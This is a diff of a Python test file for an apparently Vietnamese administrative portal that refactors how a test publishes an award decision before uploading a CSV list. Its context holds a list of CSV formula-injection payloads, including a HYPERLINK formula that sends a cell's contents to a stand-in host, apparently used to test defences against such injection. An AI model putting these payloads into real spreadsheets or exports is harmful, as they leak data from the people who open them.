@@ -17,7 +17,7 @@ from portal.search import service
 from portal.web import cache
 from tests.conftest import CONTENT, assert_unique_index_keys, load
 from tests.honors_helpers import row, write_decision
-from tests.web.admin.conftest import create
+from tests.web.admin.conftest import create, publish
 from tests.web.admin.test_uploads import CAMPAIGN, HEADER, upload
 
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")", "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=2+2"]
@@ -73,7 +73,7 @@ def test_row6_confirming_a_list_on_a_published_decision_indexes_once(seeded, as_
     doc_id = create(reviewer, symbol="45/QĐ-VKS", type="quyet-dinh", subject="Khen thưởng sơ kết năm 2022",
                     award_form="bang-khen-chu-tich-ubnd-tinh", level="tinh", campaign=CAMPAIGN,
                     review_round="so-ket-2022", reason="đã có thành tích trong giải phóng mặt bằng")
-    assert reviewer.post(f"/quan-tri/van-ban/{doc_id}/chuyen/publish").status_code == 302
+    assert publish(reviewer, doc_id).status_code == 302
     rows = HEADER + "".join(f"{n},Cá nhân,Hoàng Văn Tuần{n},,,,,,Vận động,,,\n" for n in range(1, 10))
     html = upload(reviewer, doc_id, rows.encode(), "danh-sach.csv", "danh-sach").get_data(as_text=True)
     token = html.split("/danh-sach/")[1].split('"')[0]
